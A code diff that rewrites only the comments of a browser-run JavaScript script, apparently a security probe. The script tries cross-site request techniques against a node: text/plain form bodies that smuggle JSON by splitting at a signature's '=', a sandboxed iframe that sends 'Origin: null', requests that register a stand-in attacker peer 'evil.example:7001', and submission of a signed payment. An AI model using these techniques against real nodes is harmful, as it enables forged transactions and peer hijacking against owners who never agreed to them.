@@ -1,5 +1,5 @@
-// What a page can do to make a browser ask a node: every way in its turn, each with its name in the query (`by`).
-// Run in the page with the node's address, the owner's paths by method, a signed payment, and the function to call at last.
+// Tries every way in which a page can make a browser send a request. The query names the way (`by`).
+// Arguments: the node's address, the owner's paths by method, a signed payment, and the callback for the results.
 const [base, owner, payment, done] = arguments;
 const PATIENCE = 8000;
 const results = {};
@@ -36,7 +36,7 @@ function form(url, end, attributes, fields, sandbox) {
   Object.assign(made, { action: url, target: frame.name, ...attributes });
   made.append(...inputs);
   if (sandbox) {
-    // A frame without an origin: its forms say `Origin: null`.
+    // A sandboxed frame has no origin: its forms send `Origin: null`.
     frame.sandbox = "allow-scripts allow-forms";
     frame.srcdoc = `${made.outerHTML.replace(/target="[^"]*"/, "")}<script>document.forms[0].submit()</script>`;
     setTimeout(end, 1500, "sent");
@@ -75,7 +75,7 @@ for (const path of owner.GET) {
 const posts = { ...Object.fromEntries(owner.POST.map((path) => [path, '{"nodes": ["evil.example:7001"]}'])),
                 "/transactions/new": payment };
 for (const [path, body] of Object.entries(posts)) {
-  // The form writes name=value. A signature ends with a `=` that JSON and form can share.
+  // A text/plain form sends name=value. Split the JSON at the `=` of a signature, so that the form puts it back.
   const cut = body.indexOf("=") < 0 ? body.length : body.indexOf("=");
   const fields = { [body.slice(0, cut)]: body.slice(cut + 1) };
   attempt("form", path, (url, end) => form(url, end, { method: "post" }, fields));
